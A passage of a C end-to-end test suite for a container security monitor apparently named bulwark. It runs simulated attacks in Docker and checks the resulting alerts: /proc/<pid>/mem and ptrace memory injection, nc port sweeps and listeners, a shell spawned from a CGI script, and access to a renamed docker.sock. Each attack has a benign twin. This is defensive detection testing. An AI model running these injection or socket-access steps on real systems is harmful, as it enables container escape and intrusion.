		"sh -c 'id; ps; sleep 30'", "sh -c 'cat /etc/passwd >/dev/null; sleep 30'",
		"sh -c 'mkdir -p /tmp/data && echo x > /tmp/data/f && sleep 30'", "sh -c 'echo ok | sed s/ok/fine/; sleep 30'",
		"sh -c 'head -c 100 /dev/urandom > /tmp/r; sleep 30'", "sh -c 'nc -l -p 8080 & sleep 30'",
		"sh -c 'busybox httpd -f -p 80 -h /tmp & sleep 30'",
	};
	char ids[10][80], web[80], pkg[80], name[64], flags[PATH_MAX + 64];
	int port, l = listen_loopback(&port), i, n;

	CHECK(l >= 0, "a free port on 127.0.0.1");
	close(l);
	for (i = 0; i < 10; i++) {
		snprintf(name, sizeof(name), "bw-benign-%d", i);
		sh(NULL, 0, "docker rm -f %s >/dev/null 2>&1", name);
		CHECK(sh(ids[i], sizeof(ids[i]), "docker run -d --name %s %s %s", name, IMAGE, cmds[i]) == 0, "docker run %s", name);
	}
	snprintf(name, sizeof(name), "--network host --expose %d", port); /* its image would say EXPOSE */
	CHECK(start_container(web, sizeof(web), "bw-benign-web", name) == 0, "docker run web");
	if (!build_inject()) {
		CHECK(0, "cannot build tests/e2e/inject.c statically");
		return;
	}
	snprintf(flags, sizeof(flags), "-v %s:/usr/bin/dpkg:ro", inject_bin);
	CHECK(start_container(pkg, sizeof(pkg), "bw-benign-pkg", flags) == 0, "docker run pkg");
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign-web sh -c 'mkdir -p /www && echo hello > /www/index.html && "
		 "busybox httpd -p 127.0.0.1:%d -h /www && i=0; while [ $i -lt 1000 ]; do "
		 "busybox wget -q -O /dev/null http://127.0.0.1:%d/index.html || exit 1; i=$((i+1)); done'",
		 port, port) == 0,
	      "1000 requests");
	/* a package manager's pattern, by a program named dpkg: each file to a .dpkg-new name, renamed in place */
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign-pkg sh -c 'set -e; mkdir -p /usr/local/lib/app /usr/local/etc /usr/local/bin; "
		 "/usr/bin/dpkg install /bin/busybox /usr/local/lib/app/tool 755; "
		 "/usr/bin/dpkg install /etc/hostname /usr/local/etc/app.conf 644; ln -sf /usr/local/lib/app/tool /usr/local/bin/tool'") == 0,
	      "package-like install");
	CHECK(sh(NULL, 0,
		 "docker exec bw-benign-1 sh -c 'set -e; mkdir -p /tmp/build; cd /tmp/build; for i in $(busybox seq 1 40); do "
		 "sh -c \"echo obj $i > m$i.o\"; done; cat m*.o > prog; chmod 755 prog; ls -l prog >/dev/null'") == 0,
	      "build-like burst");
	tracer_drain(3000);
	n = tracer_count_alerts(NULL, from_container, web) + tracer_count_alerts(NULL, from_container, pkg);
	for (i = 0; i < 10; i++)
		n += tracer_count_alerts(NULL, from_container, ids[i]);
	CHECK_INT(n, 0);
	for (i = 0; n && i < 12; i++) {
		json_t *a = tracer_find_alert(NULL, from_container, i < 10 ? ids[i] : i == 10 ? web : pkg, 0);

		if (a)
			fprintf(stderr, "  %s: %s\n", jstr(a, "rule"), jstr(a, "output"));
	}
	sh(NULL, 0, "docker rm -f bw-benign-web bw-benign-pkg bw-benign-0 bw-benign-1 bw-benign-2 bw-benign-3 bw-benign-4 bw-benign-5 "
		    "bw-benign-6 bw-benign-7 bw-benign-8 bw-benign-9 >/dev/null 2>&1");
}

/*
 * Process injection through procfs: the container's shell writes and reads its child's
 * memory through /proc/<pid>/mem (its own child: allowed without CAP_SYS_PTRACE).
 */
static void test_proc_mem_injection(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-mem", "") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-atk-mem sh -c 'sleep 30 & p=$!; exec 3<>/proc/$p/mem; exec 4</proc/$p/mem; kill $p'") == 0,
	      "open of /proc/<pid>/mem");
	check_alert("Process Memory Written by Another Process", id, "Warning");
	check_alert("Process Memory Read in Container", id, "Warning");
	sh(NULL, 0, "docker rm -f bw-atk-mem >/dev/null 2>&1");
}

/* A packet socket (busybox arping: AF_PACKET) from a container with the default NET_RAW. */
static void test_packet_socket(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-raw", "") == 0, "docker run");
	/* arping may find no reply on lo: the socket is what matters */
	sh(NULL, 0, "docker exec bw-atk-raw busybox arping -c 1 -w 1 -I lo 127.0.0.1 >/dev/null 2>&1");
	check_alert("Raw or Packet Socket in Container", id, "Warning");
	sh(NULL, 0, "docker rm -f bw-atk-raw >/dev/null 2>&1");
}

/* arg: {container id, port}; output_fields carries fd.lport as a number */
static bool from_container_on_port(json_t *alert, const void *arg)
{
	const char *const *idport = arg;
	json_t *port = json_object_get(json_object_get(alert, "output_fields"), "fd.lport");

	return from_container(alert, idport[0]) && json_integer_value(port) == atoi(idport[1]);
}

/*
 * A listener on a port the container does not declare alerts; one on a port it declares
 * (docker run --expose, as an image's EXPOSE) is its service: silent.
 */
static void test_declared_listener(void)
{
	char id[80];
	const char *declared[] = { id, "9000" }, *other[] = { id, "4444" };

	CHECK(start_container(id, sizeof(id), "bw-atk-listen", "--expose 9000") == 0, "docker run");
	sh(NULL, 0, "docker exec -d bw-atk-listen nc -l -p 9000");
	sh(NULL, 0, "docker exec -d bw-atk-listen nc -l -p 4444");
	CHECK(tracer_find_alert("Listener Opened in Container", from_container_on_port, other, TIMEOUT_MS),
	      "no alert for a listener on an undeclared port");
	tracer_drain(1000);
	CHECK_INT(tracer_count_alerts("Listener Opened in Container", from_container_on_port, declared), 0);
	sh(NULL, 0, "docker rm -f bw-atk-listen >/dev/null 2>&1");
}

static bool alert_proc_name_is(json_t *alert, const void *arg)
{
	const char *const *idname = arg;
	const char *name = alert_field(alert, "proc.name");

	return from_container(alert, idname[0]) && name && strcmp(name, idname[1]) == 0;
}

/*
 * A web server runs a #! CGI script: the task is named after the script and its
 * executable is busybox, yet a shell runs (issue 13, class 5). The benign twin: the same
 * server sends a static page.
 */
static void test_cgi_shell_through_interpreter(void)
{
	char id[80];
	const char *match[] = { id, "id.cgi" };
	int port, l = listen_loopback(&port);

	CHECK(l >= 0, "a free port on 127.0.0.1");
	close(l);
	CHECK(start_container(id, sizeof(id), "bw-atk-cgi", "--network host") == 0, "docker run");
	CHECK(sh(NULL, 0,
		 "docker exec bw-atk-cgi sh -c 'mkdir -p /www/cgi-bin && echo hello > /www/index.html && "
		 "printf \"#!/bin/sh\\necho Content-Type: text/plain\\necho\\nid\\n\" > /www/cgi-bin/id.cgi && "
		 "chmod +x /www/cgi-bin/id.cgi && busybox httpd -p 127.0.0.1:%d -h /www'",
		 port) == 0,
	      "busybox httpd");
	CHECK(sh(NULL, 0, "docker exec bw-atk-cgi busybox wget -q -O- http://127.0.0.1:%d/index.html >/dev/null", port) == 0,
	      "static page");
	tracer_drain(2000);
	CHECK_INT(tracer_count_alerts("Shell Spawned by Web Server", from_container, id), 0);
	CHECK(sh(NULL, 0, "docker exec bw-atk-cgi busybox wget -q -O- http://127.0.0.1:%d/cgi-bin/id.cgi >/dev/null", port) == 0,
	      "CGI request");
	CHECK(tracer_find_alert("Shell Spawned by Web Server", alert_proc_name_is, match, TIMEOUT_MS),
	      "no alert for the shell that runs the CGI script");
	sh(NULL, 0, "docker rm -f bw-atk-cgi >/dev/null 2>&1");
}

/* A port sweep of the host's loopback made of short nc processes (a shell loop), host network. */
static void test_connect_sweep(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-atk-sweep", "--network host") == 0, "docker run");
	sh(NULL, 0, "docker exec bw-atk-sweep sh -c 'for p in $(busybox seq 40100 40140); do nc -w 1 127.0.0.1 $p </dev/null; done' >/dev/null 2>&1");
	check_alert("Connect Sweep from Container", id, "Warning");
	/* once per sweep, not once per connect past the threshold */
	tracer_drain(1000);
	CHECK_INT(tracer_count_alerts("Connect Sweep from Container", from_container, id), 1);
	sh(NULL, 0, "docker rm -f bw-atk-sweep >/dev/null 2>&1");
}

/*
 * Benign twins of the three: ping (a raw ICMP socket, or an ICMP datagram one), a client
 * connecting to one host:port again and again, a process reading its own memory and
 * another process's status.
 */
static void test_benign_network_and_memory_twins(void)
{
	char id[80];

	CHECK(start_container(id, sizeof(id), "bw-benign-net", "--network host") == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-benign-net busybox ping -c 1 -W 1 127.0.0.1 >/dev/null 2>&1") == 0, "ping");
	sh(NULL, 0, "docker exec bw-benign-net sh -c 'for i in $(busybox seq 1 40); do nc -w 1 127.0.0.1 40099 </dev/null; done' >/dev/null 2>&1");
	CHECK(sh(NULL, 0, "docker exec bw-benign-net sh -c 'sleep 30 & p=$!; exec 3</proc/self/mem; cat /proc/$p/status >/dev/null; kill $p'") == 0,
	      "own memory");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-benign-net >/dev/null 2>&1");
}

/*
 * ptrace and memory injection with a small static program (tests/e2e/inject.c), bind-mounted
 * read-only: POKEDATA into a child that asked to be traced, process_vm_writev (Docker's
 * seccomp profile allows it with CAP_SYS_PTRACE), anonymous memory made executable.
 */

static void test_ptrace_and_memory_injection(void)
{
	char id[80], flags[PATH_MAX + 64];

	if (!build_inject()) {
		CHECK(0, "cannot build tests/e2e/inject.c statically");
		return;
	}
	snprintf(flags, sizeof(flags), "--cap-add SYS_PTRACE -v %s:/usr/local/bin/inject:ro", inject_bin);
	CHECK(start_container(id, sizeof(id), "bw-atk-inject", flags) == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-atk-inject inject poke") == 0, "inject poke");
	CHECK(sh(NULL, 0, "docker exec bw-atk-inject inject vmwrite") == 0, "inject vmwrite");
	CHECK(sh(NULL, 0, "docker exec bw-atk-inject inject wx") == 0, "inject wx");
	check_alert("ptrace Memory or Register Write", id, "Warning");
	check_alert("PTRACE_TRACEME in Container", id, "Notice");
	check_alert("Process Memory Written by Another Process", id, "Warning");
	check_alert("Anonymous Memory Made Executable in Container", id, "Notice");
	sh(NULL, 0, "docker rm -f bw-atk-inject >/dev/null 2>&1");
}

/*
 * The benign twin: a debugger (the same program, as gdb) starts its program and reads its
 * memory (TRACEME to a tracer parent, PEEKDATA), and memory is made read-only, not executable.
 */
/*
 * The runtime socket mounted under another name is known by the socket reached; the
 * benign twin reaches the container's own socket through a name that ends in docker.sock.
 */
static void test_runtime_socket_renamed(void)
{
	char id[80], flags[PATH_MAX + 128];

	if (!build_inject()) {
		CHECK(0, "cannot build tests/e2e/inject.c statically");
		return;
	}
	snprintf(flags, sizeof(flags), "-v /var/run/docker.sock:/run/x.sock -v %s:/usr/local/bin/inject:ro", inject_bin);
	CHECK(start_container(id, sizeof(id), "bw-atk-sock", flags) == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-atk-sock sh -c 'ln -s /tmp/api.sock /tmp/docker.sock && "
			  "inject connect /tmp/docker.sock /tmp/api.sock'") == 0, "own socket");
	CHECK(sh(NULL, 0, "docker exec bw-atk-sock inject connect /run/x.sock") == 0, "connect /run/x.sock");
	check_alert("Container Runtime Socket Access", id, "Critical");
	tracer_drain(1000);
	CHECK_INT(tracer_count_alerts("Container Runtime Socket Access", from_container, id), 1);
	sh(NULL, 0, "docker rm -f bw-atk-sock >/dev/null 2>&1");
}

static void test_benign_debugger_twin(void)
{
	char id[80], flags[PATH_MAX + 64];

	if (!build_inject()) {
		CHECK(0, "cannot build tests/e2e/inject.c statically");
		return;
	}
	snprintf(flags, sizeof(flags), "-v %s:/usr/local/bin/gdb:ro", inject_bin);
	CHECK(start_container(id, sizeof(id), "bw-benign-dbg", flags) == 0, "docker run");
	CHECK(sh(NULL, 0, "docker exec bw-benign-dbg gdb peek") == 0, "gdb peek");
	CHECK(sh(NULL, 0, "docker exec bw-benign-dbg gdb ro") == 0, "gdb ro");
	tracer_drain(3000);
	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
	sh(NULL, 0, "docker rm -f bw-benign-dbg >/dev/null 2>&1");
}

static void test_clean_stop(void)
{
	CHECK_INT(tracer_bad_lines(), 0);
	CHECK(tracer_stop() == 0, "bulwark run did not stop cleanly");
}

static void cleanup(void)
{
	tracer_kill();
	sh(NULL, 0, "docker rm -f bw-atk-breakout bw-atk-drop bw-atk-read bw-benign bw-atk-mem bw-atk-raw bw-atk-sweep"
		    " bw-benign-net bw-atk-inject bw-benign-dbg bw-atk-revshell bw-atk-script bw-atk-shm bw-benign-twins"
		    " bw-benign-image bw-atk-listen bw-atk-sock bw-atk-cgi bw-benign-web bw-benign-pkg"
		    " bw-benign-0 bw-benign-1 bw-benign-2 bw-benign-3 bw-benign-4 bw-benign-5 bw-benign-6 bw-benign-7"
		    " bw-benign-8 bw-benign-9 bw-brd-anyname bw-brd-links-benign"
		    " bw-brd-persist bw-brd-persist-benign bw-brd-corepat bw-brd-binfmt bw-brd-corepat-benign"
		    " bw-brd-nsenter bw-brd-nsenter-benign >/dev/null 2>&1");
	restore_core_pattern();
	sh(NULL, 0, "rm -rf '%s'", workdir);
}

int main(int argc, char **argv)
{
	char *targv[] = { NULL, "run", NULL };

	if (argc != 2 || geteuid() != 0) {
		fprintf(stderr, "usage (root): %s PATH/TO/bulwark\n", argv[0]);
		printf("0 passed, 1 failed\n");
		return 1;
	}
	if (!mkdtemp(workdir))
		return 1;
	snprintf(errfile, sizeof(errfile), "%s/run.stderr", workdir);
	if (sh(NULL, 0, "tests/e2e/docker-env.sh start") != 0) {
		printf("0 passed, 1 failed\n");
		return 1;
	}
	targv[0] = argv[1];
	if (tracer_start(targv, errfile)) {
		cleanup();
		printf("0 passed, 1 failed\n");
		return 1;
	}
	RUN(test_benign_workload_is_silent);
	RUN(test_ordinary_workloads_are_silent);
	RUN(test_release_agent_breakout);
	RUN(test_drop_and_execute);
	RUN(test_sensitive_file_read);
	RUN(test_sensitive_file_by_any_name);
	RUN(test_benign_links_and_token_client);
	RUN(test_persistence_written);
	RUN(test_benign_persistence_twin);
	RUN(test_core_pattern_pipe_breakout);
	RUN(test_binfmt_misc_handler_breakout);
	RUN(test_benign_core_pattern_reader);
	RUN(test_setns_into_host_namespaces);
	RUN(test_benign_setns_own_namespaces);
	RUN(test_proc_mem_injection);
	RUN(test_packet_socket);
	RUN(test_connect_sweep);
	RUN(test_declared_listener);
	RUN(test_cgi_shell_through_interpreter);
	RUN(test_benign_network_and_memory_twins);
	RUN(test_ptrace_and_memory_injection);
	RUN(test_benign_debugger_twin);
	RUN(test_runtime_socket_renamed);
	RUN(test_reverse_shell_stdio);
	RUN(test_drop_and_execute_script);
	RUN(test_exec_from_dev_shm);
	RUN(test_benign_twins_stdio_script_exec);
	RUN(test_clean_stop);
	cleanup();
	sh(NULL, 0, "tests/e2e/docker-env.sh stop");
	return check_summary();
}
